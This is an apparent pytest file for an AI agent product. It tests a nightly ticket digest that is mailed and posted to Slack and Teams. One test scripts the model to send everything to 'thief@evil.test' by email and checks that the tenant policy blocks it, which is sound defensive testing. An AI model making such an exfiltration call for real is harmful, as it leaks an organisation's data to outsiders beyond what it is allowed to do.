"""The nine o'clock digest of the specification: a schedule fires, the agent looks through two desks, and mails it once.

The model is a scripted tool-calling server, the desks are simulators, the mail server is aiosmtpd, and what it took is
what is asserted.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Mapping
from typing import Any

import pytest
from tests.support.digest import LEADS, TOOLS, assert_digest, fire, offered, reporting, searching, two_desks
from tests.support.mail import Mailbox, running_mailbox
from tests.support.product import Product

from deskhand.simulators.models import Reply
from deskhand.simulators.outside import OutsideSimulator


@pytest.fixture
async def mailbox() -> AsyncIterator[Mailbox]:
    async with running_mailbox() as box:
        yield box


async def test_the_digest_names_what_was_filed_since_yesterday_on_both_desks(
    product: Product, mailbox: Mailbox
) -> None:
    customer, shown = await two_desks(product, mailbox)
    product.model.script = searching(reporting)
    await product.start_worker()
    run = await product.ended(customer, await fire(product, customer))

    assert run["status"] == "completed", run
    assert_digest(mailbox, shown, subject=r"Night digest of \d{4}-\d\d-\d\d")
    assert run["output_result"]["mail"]["message_id"] == mailbox.mails[0]["Message-ID"]
    first = product.model.chats[0].body
    assert sorted(offered(first)) == [
        "email_send", "give_answer", "jira_search_tickets", "servicedesk_plus_search_tickets",
    ]  # fmt: skip
    assert first["messages"][0]["role"] == "system"
    assert first["messages"][0]["content"].startswith("You are Night digest of Acme. It is 20")
    audited = await product.rows("SELECT details FROM audit_log WHERE operation = 'mail.send'")
    assert [row["details"]["after"]["to"] for row in audited] == [[LEADS]]


async def test_what_the_tenant_does_not_allow_is_mailed_to_nobody(product: Product, mailbox: Mailbox) -> None:
    customer, _ = await two_desks(product, mailbox, outcome={"kind": "report"})

    def script(body: Mapping[str, Any]) -> Reply:
        tried = [message for message in body["messages"] if message["role"] == "tool"]
        if tried:
            return Reply(tool_calls=(("give_answer", {"report": tried[-1]["content"]}),))
        mail = {"to": ["thief@evil.test"], "subject": "All of it", "body": "Here."}
        return Reply(tool_calls=(("email_send", mail),))

    product.model.script = script
    await product.start_worker()
    run = await product.ended(customer, await fire(product, customer))
    assert run["status"] == "completed", run
    assert mailbox.mails == []
    assert "acme.test" in run["output_result"]["report"]
    assert [step["name"] for step in run["steps"] if step["kind"] == "compute"] == ["refuse_call"]


async def test_the_digest_is_posted_to_both_chats_as_well_as_mailed(product: Product, mailbox: Mailbox) -> None:
    channels = ["slack:leads", "teams:leads"]
    tools = {**TOOLS, "slack": ["post_message"], "teams": ["post_message"]}
    outcome = {
        "kind": "report", "mail_to": [LEADS], "chat_to": channels, "mail_subject": "{{agent_name}} of {{current_date}}",
    }  # fmt: skip
    async with OutsideSimulator() as chats:
        customer, shown = await two_desks(
            product, mailbox, places=chats.settings(), tool_ids=list(tools), tool_operations=tools, outcome=outcome
        )
        product.model.script = searching(reporting)
        await product.start_worker()
        run = await product.ended(customer, await fire(product, customer))
        assert run["status"] == "completed", run
        assert_digest(mailbox, shown, subject=r"Night digest of \d{4}-\d\d-\d\d")
        assert run["output_result"]["chat"] == channels
        assert [one.channel for one in chats.posted] == channels
        for message in chats.posted:
            assert "Night digest of 20" in message.text
            assert all(number in message.text for number in shown)
            assert "Old fault" not in message.text
